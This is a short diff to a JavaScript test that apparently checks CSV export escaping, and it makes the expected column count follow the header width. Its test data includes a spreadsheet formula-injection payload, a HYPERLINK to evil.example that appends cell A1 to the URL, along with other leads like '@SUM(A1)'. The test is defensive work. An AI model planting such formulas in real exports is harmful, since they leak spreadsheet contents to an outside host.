@@ -129,7 +129,9 @@ test('extension approved, return re-queued, confidential caller hidden, report C
     });
     const cells = evil.trim().split('\n');
     assert.ok(cells.some((l) => l.startsWith('department,(not dispatched),')), evil);
-    assert.ok(cells.includes(`topic,"'=HYPERLINK(""http://evil.example/?q=""&A1,""x"")",1${','.repeat(22)}`), evil);
+    // A topic row: its count, every other figure empty.
+    const width = cells[0].split(',').length;
+    assert.ok(cells.includes(`topic,"'=HYPERLINK(""http://evil.example/?q=""&A1,""x"")",1${','.repeat(width - 3)}`), evil);
     for (const lead of ['+1', '-2', '@SUM(A1)', '\tx']) {
       assert.ok(cells.some((l) => l.startsWith(`topic,"'${lead}",1,`)), `${lead}: ${evil}`);
     }
